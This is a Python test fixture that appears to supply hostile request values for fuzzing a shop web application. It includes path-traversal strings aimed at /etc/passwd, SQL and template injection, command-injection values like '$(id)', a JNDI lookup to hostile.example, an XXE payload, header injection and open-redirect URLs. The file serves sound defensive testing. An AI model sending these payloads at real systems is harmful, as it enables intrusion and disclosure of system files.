"""Hostile values for any place of a request, as bytes."""

from tests.malicious_input import STRINGS
from tests.page_checks import CANARY

NUMBERS = (
    *("-1", "0", "-0", "+1", " 1 ", "1.5", "1e9", "1e309", "NaN", "Infinity", "0x10", "1_000", "1,000", "٣", "１"),
    *("²", "2147483647", "2147483648", "9223372036854775807", "9223372036854775808", "9" * 40, "9" * 5000),
    *("-" + "9" * 30, "true", "null", "None", "undefined", "[]", "{}", "on", ""),
)
DATES = (
    *("2026-02-30", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-13-01", "1969-12-31", "-2026-01-01"),
    *("2026-11-24T25:61:00", "2026-W48-1", "24/11/2026", "２０２６-11-24", "2026-11-24\x00"),
    "0001-01-01T00:00:00+23:59",
)
PATHS = (
    *("../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/wsgi.py", "....//....//etc/passwd"),
    *("/etc/passwd", "\\\\hostile.example\\x", "..\\..\\wsgi.py", "C:\\boot.ini", "file:///etc/passwd", ".", ".."),
    *("//", "img/../../shop/config.py", "img/logo.svg\x00.png", "css/", "~root", "con", "%00", "%", "%zz", "%u0041"),
    "a;b=c",
)
QUERIES = (
    *("' OR '1'='1", "1; SELECT pg_sleep(5)--", "1 UNION SELECT password FROM merchant--"),
    *("x' AND 1=CAST('a' AS int)--", "%", "_", "%_%_%", "\\", "'", '"', "''", "*", "(", ")", "a & b | c", "!"),
    *("NEAR(", "* *", "-" * 50, "{{config}}", "{{''.__class__.__mro__}}", "{%import os%}"),
    *("${jndi:ldap://hostile.example/a}", "$(id)", "`id`", "|id"),
)
BYTES = (
    *(b"\x00", b"a\x00b", b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x80" * 30),
    *("é".encode("latin-1"), "hostile".encode("utf-16"), "\ufeffx".encode(), b"\r\n", b"\r\nX-Hostile: yes"),
    b"\x1b]0;x\x07",
)
SIZES = (b"a" * 300, b"<" * 2000, b" " * 5000, b"\n" * 5000, "é".encode() * 9000, b"hostile " * 9000, b"a" * 140_000)
OBJECTS = (
    *(b"{}", b"[]", b"null", b"1e999", b'{"a":', b"[" * 20_000, b'{"a":' * 5_000, b'{"a":1,"a":2}', b'"\\ud800"'),
    *(b"NaN", b'{"__proto__":{"x":1}}'),
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)
SUMS = (
    *("1" + ",000" * 2000, "KSh 1" + " 000" * 2000, "1,000,000,000,000,000", "0,000", "1.00", "KSh", "1250.5"),
    *("٣,٣٣٣", "SKA1B2C3D4 Confirmed. Ksh9" + ",999" * 230 + ".00 sent on 99/99/99 at 99:99 PM"),
    "SKA1B2C3D4 Confirmed. Ksh1.00 received from <hostile> 0712345678 on 31/2/26 at 0:00 AM",
)
ADDRESSES = (
    *("//hostile.example", "///hostile.example", "/\\hostile.example", "https:hostile.example"),
    *("http://hostile.example/", "https://localhost@hostile.example", "/admin/../../hostile.example"),
    *("/admin/\t/hostile.example", "javascript:hostile()", "/admin//hostile.example", "/admin/%2f%2fhostile.example"),
    *("http://[", "http://[::1", "//", "/admin/?next=//hostile.example"),
)

VALUES: tuple[bytes, ...] = (
    *(text.encode() for text in (*STRINGS, CANARY, *NUMBERS, *DATES, *PATHS, *QUERIES, *SUMS, *ADDRESSES)),
    *(*BYTES, *SIZES, *OBJECTS),
)

# Header names with what is put into them. A server hands header values on as Latin-1.
HEADERS: dict[str, tuple[str, ...]] = {
    "Host": (
        *("hostile.example", "localhost:99999", "localhost:x", "a b", "[::1", "", "localhost, hostile.example"),
        *("x" * 300, "%"),
    ),
    "X-Forwarded-Host": ("hostile.example", "hostile.example, localhost", '"><hostile>'),
    "X-Forwarded-Proto": ("https", "javascript", "hostile", ","),
    "X-Forwarded-For": ("127.0.0.1", "' OR 1=1", "1.2.3.4, 5.6.7.8", "[::1]:99999", "\xff"),
    "X-Forwarded-Prefix": ("//hostile.example", "/admin", "\\"),
    "X-Original-URL": ("/admin/", "//hostile.example"),
    "X-HTTP-Method-Override": ("DELETE", "hostile"),
    "Forwarded": ("for=hostile;host=hostile.example;proto=https", ";;;="),
    "Cookie": (
        *("session=", "session=hostile", "session=.eJx.x.y", "session=\x00", "a=b; " * 3000),
        *("session=" + "x" * 90_000, "\xff"),
    ),
    "Referer": (*ADDRESSES, 'http://localhost/admin/"><hostile>', "\xff\xfe"),
    "Origin": ("null", "http://hostile.example", "http://[", "hostile"),
    "Sec-Fetch-Site": ("cross-site", "hostile", ""),
    "Accept": ("application/json", "*/*;q=hostile", "text/html;q=1e999", ",", "a/b;" * 2000),
    "Accept-Encoding": ("gzip;q=99999", "zstd;q=nan", "br;q=-1", "identity;q=0", "*;q=0", ";", "deflate;q=hostile"),
    "Accept-Language": ("sw-KE;q=hostile", "x" * 5000, "../../etc"),
    "User-Agent": ("<hostile>", "\xff" * 50, "", "x" * 9000, "${jndi:ldap://hostile.example}"),
    "If-None-Match": ('"', "*", 'W/"x', "hostile" * 500),
    "If-Modified-Since": ("Thu, 99 Foo 9999", "Sat, 01 Jan 0000 00:00:00 GMT", "\xff"),
    "Range": ("bytes=0-0", "bytes=99999-1", "bytes=-", "hostile=0-1", "bytes=" + "0-1," * 500),
    "Authorization": ("Basic hostile", "Basic \xff", "Bearer x", "Digest realm=", "Token"),
    "Content-Length": ("-1", "hostile", "99999999999", "0"),
    "Content-Encoding": ("gzip", "hostile"),
    "Expect": ("100-continue", "hostile"),
}
CONTENT_TYPES = (
    *("application/json", "text/plain", "text/xml", "application/octet-stream", "", "hostile", "/", ";", "\xff"),
    *("multipart/form-data", "multipart/form-data; boundary=", 'multipart/form-data; boundary="'),
    *("multipart/form-data; boundary=hostile", "application/x-www-form-urlencoded; charset=utf-16"),
    "application/x-www-form-urlencoded; charset=hostile",
)
COLUMNS = (
    *("Slug", "Name", "Category", "Description", "Option 1", "Option 2", "Option 3"),
    *("Search words", "Featured", "Status", "Images"),
    *("SKU", "Value 1", "Value 2", "Value 3", "Label", "Price", "Price before", "Stock", "Low at", "For sale"),
)
ROW = ("sisal-mat", "Mat", "Kitchen", "", "", "", "", "no", "", "SIS-MAT", "", "", "", "", "950", "7", "1", "yes")


def catalogue_file(place: int, value: bytes) -> bytes:
    """A catalogue as CSV with one cell that is hostile."""
    cells = [b'"' + value.replace(b'"', b'""') + b'"' if at == place else cell.encode() for at, cell in enumerate(ROW)]
    return ",".join(COLUMNS).encode() + b"\r\n" + b",".join(cells) + b"\r\n"
